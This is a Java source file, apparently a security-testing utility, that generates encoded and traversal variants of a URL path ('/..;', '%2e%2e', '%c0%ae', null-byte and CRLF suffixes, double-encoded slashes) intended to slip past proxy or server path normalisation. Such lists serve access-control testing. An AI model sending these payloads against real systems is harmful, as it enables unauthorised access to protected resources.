package dev.operatorkit.reference;

import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Generates variants of a path that some server or proxy normalizes to that path. */
final class PathVariants {
    /** Lists replacements for the slash between two segments of a path. */
    private static final List<String> SLASHES = List.of(
            "//", "/./", "/;/", "/;a=b/", "%2f", "%2F", "%252f", "/%2e/", "%5c", "\\", "/x/../", "%c0%af", "/%20/");

    /** Lists suffixes that lead up again from a public path. */
    private static final List<String> UP = List.of(
            "/..",
            "/..;",
            "/..;a=b",
            "/.;/..",
            "/%2e%2e",
            "/.%2e",
            "/%2E.",
            "/%2e%2e;",
            "/%252e%252e",
            "/%c0%ae%c0%ae",
            "/..%00");

    private PathVariants() {}

    /** Returns at least twenty variants, none of them the path itself; {@code open} is a public path. */
    static Set<String> of(String path, String open) {
        var up = UP.stream().map(dots -> open + dots.repeat(open.split("/").length - 1) + path);
        var slashes = SLASHES.stream().map(slash -> slash + path.substring(1));
        var between = SLASHES.stream()
                .filter(slash -> path.lastIndexOf('/') > 0)
                .map(slash ->
                        path.substring(0, path.lastIndexOf('/')) + slash + path.substring(path.lastIndexOf('/') + 1));
        var after = Stream.of(
                        "/", "//", ";", ";a=b", "/.", "/..", "/x/..", "%00", "%20", "%0d%0a", ".", "%3f", "%23", "\\")
                .map(end -> path + end);
        var others = Stream.of(
                path.substring(1),
                percent(path, "%%%02x"),
                percent(path, "%%25%02x"),
                path.toUpperCase(Locale.ROOT) + (path.equals("/") ? "/" : ""),
                open + "/.." + open + "/.." + path,
                open + "..%2f" + path.substring(1),
                open + "\\.." + path,
                "*",
                "*" + path);
        return Stream.of(up, slashes, between, after, others)
                .flatMap(kind -> kind)
                .filter(variant -> !variant.equals(path) && !variant.isEmpty())
                .collect(Collectors.toCollection(LinkedHashSet::new));
    }

    private static String percent(String path, String form) {
        return "/" + path.chars().skip(1).mapToObj(form::formatted).collect(Collectors.joining());
    }
}
